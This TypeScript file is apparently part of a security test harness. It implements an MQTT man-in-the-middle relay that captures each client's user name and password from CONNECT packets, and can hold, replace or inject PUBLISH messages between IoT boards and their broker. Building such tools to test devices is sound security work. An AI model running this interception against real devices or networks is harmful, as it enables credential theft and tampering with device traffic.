// The on-path attacker: an MQTT-aware TCP relay between the boards and the real broker. The boards are
// provisioned with the relay's address, so every byte they exchange with the broker passes through it,
// exactly as through a compromised access point, router or a malicious broker in front of the real one.
// It splits each direction into whole MQTT control packets (OASIS mqtt-v3.1.1 §2.2), records them (the
// eavesdropper's capture, including each CONNECT's user name and password), and lets an attack hold a
// PUBLISH instead of forwarding it, forward something else, or inject packets into a live session in
// either direction. Packets are always written whole, so an injection never splits another packet.
import { createServer, connect as tcpConnect, Server, Socket } from 'node:net';

export type Direction = 'up' | 'down';

export interface RelaySession {
  id: number;
  clientId: string | null;
  username: string | null;
  password: Buffer | null;
  /** CONNACK return code once the broker answered (null before). */
  connack: number | null;
  board: Socket;
  broker: Socket;
  closed: boolean;
  /** Who closed first: 'board', 'broker' or null while open. */
  closedBy: 'board' | 'broker' | null;
  opened: number;
}

export interface RelayPublish {
  session: RelaySession;
  dir: Direction;
  topic: string;
  payload: Buffer;
  qos: number;
  at: number;
  /** Whether it went on to its receiver unchanged (false while held, or when the attack sent something else). */
  forwarded: boolean;
}

/** A held PUBLISH: the attack decides what (if anything) goes on in its place. */
export interface Held extends RelayPublish {
  /** Forwards the given packets (default: the original) in the held packet's direction. */
  release(packets?: Buffer[]): void;
}

interface Interceptor { dir: Direction; match: (p: RelayPublish) => boolean; resolve: (h: Held) => void }

/** Splits a byte stream into whole packets; returns the packets and the unconsumed rest (null: malformed). */
export function splitPackets(buf: Buffer): { packets: Buffer[]; rest: Buffer } | null {
  const packets: Buffer[] = [];
  let o = 0;
  for (;;) {
    if (buf.length - o < 2) break;
    let i = o + 1;
    let n = 0;
    let m = 1;
    let b: number;
    let complete = true;
    do {
      if (i - o > 4) return null;
      if (i >= buf.length) { complete = false; break; }
      b = buf[i++];
      n += (b & 127) * m;
      m *= 128;
    } while (b & 128);
    if (!complete || i + n > buf.length) break;
    packets.push(buf.subarray(o, i + n));
    o = i + n;
  }
  return { packets, rest: buf.subarray(o) };
}

/** Body offset of a whole packet (after the fixed header). */
function bodyOf(p: Buffer): Buffer {
  let i = 1;
  while (p[i] & 128) i++;
  return p.subarray(i + 1);
}

/** CONNECT (§3.1): client id, user name and password, or null if it does not parse. */
export function parseConnect(p: Buffer): { clientId: string; username: string | null; password: Buffer | null } | null {
  try {
    const b = bodyOf(p);
    let o = 0;
    const str = () => {
      const n = b.readUInt16BE(o);
      const s = b.subarray(o + 2, o + 2 + n);
      if (s.length !== n) throw new Error('short');
      o += 2 + n;
      return s;
    };
    str(); // protocol name
    o += 1; // level
    const flags = b[o++];
    o += 2; // keep alive
    const clientId = str().toString('utf8');
    if (flags & 0x04) { str(); str(); } // will topic, will message
    const username = flags & 0x80 ? str().toString('utf8') : null;
    const password = flags & 0x40 ? Buffer.from(str()) : null;
    return { clientId, username, password };
  } catch {
    return null;
  }
}

/** PUBLISH (§3.3): topic, QoS and payload, or null. */
export function parsePublish(p: Buffer): { topic: string; qos: number; payload: Buffer } | null {
  const qos = (p[0] >> 1) & 3;
  const b = bodyOf(p);
  if (b.length < 2 || qos === 3) return null;
  const n = b.readUInt16BE(0);
  const start = 2 + n + (qos ? 2 : 0);
  if (start > b.length) return null;
  return { topic: b.subarray(2, 2 + n).toString('utf8'), qos, payload: Buffer.from(b.subarray(start)) };
}

export interface RelayOptions {
  /** The real broker. */
  brokerHost: string;
  brokerPort: number;
  /** Most PUBLISH packets kept in the capture (oldest dropped). Default 20,000. */
  keep?: number;
}

export class Relay {
  readonly sessions: RelaySession[] = [];
  readonly captured: RelayPublish[] = [];
  private server: Server | null = null;
  private nextId = 1;
  private interceptors: Interceptor[] = [];
  private listeners: ((p: RelayPublish) => void)[] = [];
  port = 0;

  constructor(private readonly o: RelayOptions) {}

  get url(): string { return `mqtt://127.0.0.1:${this.port}`; }

  async start(): Promise<void> {
    this.server = createServer({ noDelay: true }, (board) => this.accept(board));
    await new Promise<void>((res, rej) => {
      this.server!.once('error', rej);
      this.server!.listen(0, '127.0.0.1', () => res());
    });
    this.port = (this.server.address() as { port: number }).port;
  }

  async close(): Promise<void> {
    for (const s of this.sessions) { s.board.destroy(); s.broker.destroy(); }
    await new Promise<void>((res) => (this.server ? this.server.close(() => res()) : res()));
  }

  /** Called for every PUBLISH seen in either direction, before it is forwarded or held. */
  onPublish(f: (p: RelayPublish) => void): () => void {
    this.listeners.push(f);
    return () => { this.listeners = this.listeners.filter((x) => x !== f); };
  }

  /** The newest open session whose CONNECT named this client id or user name, with CONNACK 0. */
  session(name: string): RelaySession | null {
    for (let i = this.sessions.length - 1; i >= 0; i--) {
      const s = this.sessions[i];
      if (!s.closed && s.connack === 0 && (s.clientId === name || s.username === name)) return s;
    }
    return null;
  }

  /** Waits for an open, accepted session of this device (after a reconnection, for example). */
  async waitSession(name: string, timeoutMs: number, after = 0): Promise<RelaySession | null> {
    const end = Date.now() + timeoutMs;
    for (;;) {
      const s = this.session(name);
      if (s && s.opened >= after) return s;
      if (Date.now() > end) return null;
      await new Promise((r) => setTimeout(r, 20));
    }
  }

  /** The newest CONNECT credentials a client sent for this user name or client id (what a sniffer has). */
  sniffedCredentials(name: string): { clientId: string; username: string | null; password: Buffer | null } | null {
    for (let i = this.sessions.length - 1; i >= 0; i--) {
      const s = this.sessions[i];
      if (s.clientId === name || s.username === name) return { clientId: s.clientId ?? '', username: s.username, password: s.password };
    }
    return null;
  }

  /** Holds the next PUBLISH in `dir` that matches, instead of forwarding it. */
  hold(dir: Direction, match: (p: RelayPublish) => boolean, timeoutMs: number): Promise<Held | null> {
    return new Promise((resolve) => {
      const it: Interceptor = { dir, match, resolve: (h) => { clearTimeout(timer); resolve(h); } };
      const timer = setTimeout(() => {
        this.interceptors = this.interceptors.filter((x) => x !== it);
        resolve(null);
      }, timeoutMs);
      this.interceptors.push(it);
    });
  }

  /** Waits for the next PUBLISH in `dir` that matches, forwarding it as usual (passive capture). */
  next(dir: Direction, match: (p: RelayPublish) => boolean, timeoutMs: number): Promise<RelayPublish | null> {
    return new Promise((resolve) => {
      let off = () => {};
      const timer = setTimeout(() => { off(); resolve(null); }, timeoutMs);
      off = this.onPublish((p) => {
        if (p.dir === dir && match(p)) { clearTimeout(timer); off(); resolve(p); }
      });
    });
  }

  /** Writes whole packets into a live session: 'up' towards the broker (as if the board sent them), 'down' towards the board. */
  inject(s: RelaySession, dir: Direction, packets: Buffer[]): boolean {
    const sock = dir === 'up' ? s.broker : s.board;
    if (s.closed || sock.destroyed) return false;
    for (const p of packets) sock.write(p);
    return true;
  }

  private accept(board: Socket): void {
    board.setNoDelay(true);
    const broker = tcpConnect({ host: this.o.brokerHost, port: this.o.brokerPort, noDelay: true });
    const s: RelaySession = {
      id: this.nextId++, clientId: null, username: null, password: null, connack: null, board, broker,
      closed: false, closedBy: null, opened: Date.now(),
    };
    this.sessions.push(s);
    if (this.sessions.length > 1000) this.sessions.splice(0, this.sessions.findIndex((x) => !x.closed) || 1);
    const end = (by: 'board' | 'broker') => {
      if (!s.closed) { s.closed = true; s.closedBy = by; }
      board.destroy();
      broker.destroy();
    };
    board.on('error', () => end('board'));
    broker.on('error', () => end('broker'));
    board.on('close', () => end('board'));
    broker.on('close', () => end('broker'));
    this.pipe(s, 'up', board, broker, () => end('board'));
    this.pipe(s, 'down', broker, board, () => end('broker'));
  }

  private pipe(s: RelaySession, dir: Direction, from: Socket, to: Socket, fail: () => void): void {
    let buf: Buffer = Buffer.alloc(0);
    from.on('data', (chunk: Buffer) => {
      buf = buf.length ? Buffer.concat([buf, chunk]) : chunk;
      const r = splitPackets(buf);
      if (!r) return fail();
      buf = Buffer.from(r.rest);
      for (const p of r.packets) this.packet(s, dir, Buffer.from(p), to);
    });
  }

  private packet(s: RelaySession, dir: Direction, p: Buffer, to: Socket): void {
    const type = p[0] >> 4;
    if (dir === 'up' && type === 1) {
      const c = parseConnect(p);
      if (c) { s.clientId = c.clientId; s.username = c.username; s.password = c.password; }
    } else if (dir === 'down' && type === 2) {
      s.connack = bodyOf(p)[1] ?? null;
    } else if (type === 3) {
      const m = parsePublish(p);
      if (m) {
        const pub: RelayPublish = { session: s, dir, topic: m.topic, payload: m.payload, qos: m.qos, at: Date.now(), forwarded: false };
        this.captured.push(pub);
        if (this.captured.length > (this.o.keep ?? 20_000)) this.captured.splice(0, this.captured.length - (this.o.keep ?? 20_000));
        for (const l of [...this.listeners]) l(pub);
        const it = this.interceptors.find((x) => x.dir === dir && x.match(pub));
        if (it) {
          this.interceptors = this.interceptors.filter((x) => x !== it);
          it.resolve({
            ...pub,
            release: (packets) => {
              if (!packets) pub.forwarded = true;
              if (!to.destroyed) for (const q of packets ?? [p]) to.write(q);
            },
          });
          return;
        }
        pub.forwarded = true;
      }
    }
    if (!to.destroyed) to.write(p);
  }
}
